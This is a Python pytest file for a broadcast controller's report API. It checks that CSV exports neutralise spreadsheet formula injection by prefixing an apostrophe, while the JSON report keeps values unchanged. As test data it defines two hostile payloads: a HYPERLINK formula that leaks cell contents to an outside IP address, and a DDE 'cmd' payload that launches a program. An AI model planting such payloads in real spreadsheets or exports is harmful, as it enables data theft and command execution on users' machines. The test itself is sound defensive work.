"""CSV files the controller writes cannot carry a formula into a spreadsheet (issue 12): a title staff typed
and a reason a receiver reported, each starting with a formula character, come out of the broadcast report's
CSV with a `'` before them — shown as text, never run — while the JSON report keeps them as they are."""

from __future__ import annotations

import csv
import datetime as dt
import io
import uuid

from sqlmodel import Session, select

from controller.db.models import Programme
from receivers.protocol.messages import PlayEvent
from schedules import TZ
from tests.conftest import Api
from tests.controller.api.test_programmes import add_bulletin, at

TITLE = '=HYPERLINK("http://203.0.113.9/?d="&A1,"Xem")'
REASON = "+cmd|' /C calc'!A0"


def table(api: Api, params: dict[str, str], part: str) -> list[dict[str, str]]:
    r = api.get("/api/v1/reports/broadcast", params={**params, "format": "csv", "part": part})
    assert r.status_code == 200, r.text
    return list(csv.DictReader(io.StringIO(r.text.lstrip("\ufeff"))))


def test_formula_cells_in_the_report_csv_are_written_as_text(api: Api) -> None:
    with Session(api.engine) as s:
        bulletin = add_bulletin(s, TITLE, 60)
    r = api.post("/api/v1/programmes", json={"title": TITLE, "items": [{"bulletin_id": bulletin}],
                                             "targets": {"communes": ["tra-son"]}, "start": at(6),
                                             "rrule": "FREQ=DAILY"})
    assert r.status_code == 201, r.text
    with Session(api.engine) as s:  # as though it had been running for a few days
        for row in s.exec(select(Programme)):
            row.start -= dt.timedelta(days=3)
            s.add(row)
        s.commit()
    now = dt.datetime.now(TZ)
    window = {"from": (now - dt.timedelta(days=2)).isoformat(), "to": now.isoformat()}
    report = api.get("/api/v1/reports/broadcast", params=window).json()
    first = report["missed"][0]
    api.deliver(first["receiver_id"], PlayEvent(event_id=uuid.uuid4(), seq=1, event="failed",
                                                at=dt.datetime.fromisoformat(first["start"]), item_id=first["item_id"],
                                                reason=REASON))
    report = api.get("/api/v1/reports/broadcast", params=window).json()
    assert report["programmes"][0]["title"] == TITLE  # the JSON is data, not a spreadsheet: unchanged
    assert REASON in [m["reason"] for m in report["missed"]]

    summary = table(api, window, "summary")
    assert [row["title"] for row in summary] == ["'" + TITLE]
    missed = table(api, window, "missed")
    reported = [row for row in missed if row["item_id"] == first["item_id"] and
                row["receiver_id"] == first["receiver_id"]]
    assert [(row["outcome"], row["reason"]) for row in reported] == [("failed", "'" + REASON)]
    assert all(row["title"] == "'" + TITLE for row in missed)
    # Numbers and dates are still numbers and dates.
    assert float(summary[0]["planned_minutes"]) > 0 and missed[0]["start"][0].isdigit()
